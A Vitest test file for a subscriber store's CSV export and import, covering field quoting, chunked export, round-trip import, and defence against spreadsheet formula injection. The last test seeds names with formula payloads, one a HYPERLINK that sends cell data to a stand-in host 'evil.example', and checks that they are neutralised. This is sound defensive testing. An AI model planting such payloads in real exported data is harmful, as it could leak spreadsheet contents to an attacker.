import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  addSubscriber,
  csvField,
  exportSubscribers,
  importSubscribers,
  iterateSubscribers,
  removeSubscriber,
} from '../../src/store/index.js';
import { openTempDb } from './temp-db.js';
import { sqliteStore } from '../../src/store/sqlite-store.js';

describe('exportSubscribers', () => {
  it('quotes fields only when needed (RFC 4180)', async () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('Lee, Ann')).toBe('"Lee, Ann"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField('a\nb')).toBe('"a\nb"');
  });

  it('writes the header and every subscriber, in chunks', async () => {
    const db = openTempDb();
    addSubscriber(db, { email: 'ann@example.com', name: 'Lee, Ann', topics: ['a', 'b'] }, { via: 'cli', now: new Date('2026-01-02T03:04:05Z') });
    const chunks: string[] = [];
    expect(await exportSubscribers(sqliteStore(db).subscribers, (c) => chunks.push(c))).toBe(1);
    expect(chunks.join('')).toBe(
      'email,name,topics,status,joined_at\r\nann@example.com,"Lee, Ann",a;b,active,2026-01-02T03:04:05.000Z\r\n',
    );
  });

  it('imports back into an empty database as it was, people who left included', async () => {
    const db = openTempDb();
    addSubscriber(db, { email: 'Ann@Example.com', name: 'Ann "the" Lee', topics: ['x', 'y'] }, { via: 'cli' });
    addSubscriber(db, { email: 'bob@example.com', name: 'Bob' }, { via: 'cli' });
    removeSubscriber(db, 'bob@example.com', { via: 'cli' });
    let csv = '';
    await exportSubscribers(sqliteStore(db).subscribers, (c) => (csv += c), { pageSize: 1 });
    const fresh = openTempDb();
    expect(await importSubscribers(sqliteStore(fresh).subscribers, { text: csv }, { file: 'export.csv' })).toMatchObject({ added: 2, invalid: [] });
    const summary = (d: typeof db) => [...iterateSubscribers(d)].map(({ email, name, topics, status }) => ({ email, name, topics, status }));
    expect(summary(fresh)).toEqual(summary(db));
    expect(summary(fresh)[1]?.status).toBe('unsubscribed');
  });

  it('no cell starts a formula in a spreadsheet (=, +, -, @, tab, CR), and the export imports back unchanged', async () => {
    const db = openTempDb();
    const hostile = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    hostile.forEach((name, i) => addSubscriber(db, { email: `p${i}@example.com`, name, topics: ['=1+cmd', 'ok'] }, { via: 'cli' }));
    addSubscriber(db, { email: '-dash@example.com', name: 'Dash' }, { via: 'cli' });
    let csv = '';
    await exportSubscribers(sqliteStore(db).subscribers, (c) => (csv += c));
    const rows = parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];
    expect(rows).toHaveLength(hostile.length + 1);
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        expect(/^[=+\-@\t\r]/.test(value), `${column}: ${JSON.stringify(value)}`).toBe(false);
      }
    }
    expect(rows[0]!.name).toBe(`'${hostile[0]}`);
    expect(rows.at(-1)!.email).toBe("'-dash@example.com");
    const fresh = openTempDb();
    expect(await importSubscribers(sqliteStore(fresh).subscribers, { text: csv }, { file: 'export.csv' })).toMatchObject({ added: hostile.length + 1, invalid: [] });
    const names = [...iterateSubscribers(fresh)].map((s) => [s.email, s.name, s.topics]);
    expect(names).toEqual([...iterateSubscribers(db)].map((s) => [s.email, s.name, s.topics]));
  });
});
